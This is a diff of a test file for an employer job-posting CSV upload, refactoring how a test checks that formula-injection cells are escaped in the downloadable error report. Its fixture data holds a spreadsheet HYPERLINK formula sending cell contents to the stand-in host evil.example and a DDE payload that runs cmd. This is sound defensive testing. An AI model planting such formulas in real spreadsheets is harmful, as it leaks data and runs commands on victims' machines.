@@ -10,6 +10,7 @@ import { getI18n } from "~/i18n/i18n";
 import { action as uploadAction } from "~/routes/employer/postings-upload";
 import { bufferSource } from "~/platform/spreadsheet-reader.server";
 import { errorReportCsv, importRoster, readHead } from "~/features/imports/index.server";
+import { callForAnswer, filePost } from "../setup/api-call";
 import { makeCoordinator, makeEmployer } from "../setup/factories";
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
@@ -40,26 +41,21 @@ describe("formula injection through upload error reports", () => {
 
   it("formula injection: a posting-list cell =HYPERLINK(…) comes back in the downloadable report as text ('=…), not a formula", async () => {
     const { user } = await makeEmployer();
-    const body = new FormData();
-    body.append(
-      "file",
-      new File(
-        [
-          csv([
-            ["工种", "岗位名称", "招聘人数", "月薪", "工作地点"],
-            [PAYLOAD, "岗位", "1", "6000", "朝阳区"],
-            ["保姆", "岗位", "1", "6000", "-1+cmd|' /C calc'!A0"],
-          ]),
-        ],
-        "list.csv",
-        { type: "text/csv" },
-      ),
+    const list = new File(
+      [
+        csv([
+          ["工种", "岗位名称", "招聘人数", "月薪", "工作地点"],
+          [PAYLOAD, "岗位", "1", "6000", "朝阳区"],
+          ["保姆", "岗位", "1", "6000", "-1+cmd|' /C calc'!A0"],
+        ]),
+      ],
+      "list.csv",
+      { type: "text/csv" },
     );
-    const res = (await uploadAction({
-      request: new Request("http://localhost/employer/postings/upload", { method: "POST", headers: { Cookie: await user.cookie() }, body }),
-      params: {},
-      context: {},
-    })) as { rejected: number; reportCsv: string };
+    const res = (await callForAnswer(uploadAction, filePost("/employer/postings/upload", await user.cookie(), list))) as {
+      rejected: number;
+      reportCsv: string;
+    };
     expect(res.rejected).toBe(2);
     const report = cells(res.reportCsv);
     expect(report).toContain(`'${PAYLOAD}`);
